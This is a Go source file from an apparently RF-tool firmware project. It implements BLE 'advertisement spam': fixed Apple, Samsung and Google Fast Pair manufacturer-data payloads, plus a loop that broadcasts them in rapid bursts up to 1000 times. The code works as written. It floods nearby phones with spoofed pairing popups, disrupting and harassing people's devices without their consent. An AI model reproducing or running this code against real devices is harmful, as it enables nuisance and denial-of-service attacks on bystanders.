package ble

import (
	"runtime"
	"time"

	"github.com/spectra-rf/corefw/internal/core/domain"
)

// Tag identifies a manufacturer-data advertisement template.
type Tag string

const (
	TagBender  Tag = "BENDER"
	TagSamsung Tag = "SAMSUNG"
	TagApple   Tag = "APPLE"
	TagGoogle  Tag = "GOOGLE"
)

// spamTemplates are fixed manufacturer-data payloads, keyed by Tag
// (spec.md §4.5). BENDER, SAMSUNG and APPLE are BLE
// manufacturer-specific-data AD structures: length, type 0xFF, company
// ID (LE), payload. GOOGLE is a complete 16-bit service UUID list AD
// structure (type 0x03, UUID 0xFE2C).
var spamTemplates = map[Tag][]byte{
	TagBender:  {0x06, 0xFF, 0xFF, 0xFF, 0x42, 0x44, 0x52},
	TagSamsung: {0x08, 0xFF, 0x75, 0x00, 0x42, 0x09, 0x02, 0x01, 0x00},
	TagApple:   {0x1E, 0xFF, 0x4C, 0x00, 0x0F, 0x05, 0xC0, 0x19, 0x00, 0x00, 0x00, 0x00, 0x10, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00},
	TagGoogle:  {0x03, 0x03, 0x2C, 0xFE},
}

const (
	SpamDefaultCount = 50
	SpamMaxCount     = 1000

	spamBurst     = 50 * time.Millisecond
	spamPostSleep = 40 * time.Millisecond
	spamGapSleep  = 10 * time.Millisecond
	spamYieldEvery = 50
)

// ValidTag reports whether tag names a known template.
func ValidTag(tag string) bool {
	_, ok := spamTemplates[Tag(tag)]
	return ok
}

// SpamStart runs count iterations (count <= 0 means SpamDefaultCount;
// larger counts are clamped to SpamMaxCount) of the advertisement-spam
// loop for tag.
func (e *Engine) SpamStart(tag string, count int) error {
	if err := e.ready(); err != nil {
		return err
	}
	payload, ok := spamTemplates[Tag(tag)]
	if !ok {
		return domain.NewError(domain.KindInvalidArgument, "unknown manufacturer tag")
	}
	if count <= 0 {
		count = SpamDefaultCount
	}
	if count > SpamMaxCount {
		count = SpamMaxCount
	}

	e.StopScan()
	if err := e.sup.TryTransition(domain.StateBleSpam); err != nil {
		return err
	}
	defer e.sup.ForceIdle()

	for i := 0; i < count; i++ {
		if err := e.ble.StartAdvertising(payload, spamBurst); err != nil {
			return domain.WrapError(domain.KindHardwareError, "start advertising", err)
		}
		time.Sleep(spamPostSleep)
		_ = e.ble.StopAdvertising()
		time.Sleep(spamGapSleep)

		if (i+1)%spamYieldEvery == 0 {
			runtime.Gosched()
		}
	}

	e.emit.EmitStatus("complete")
	return nil
}
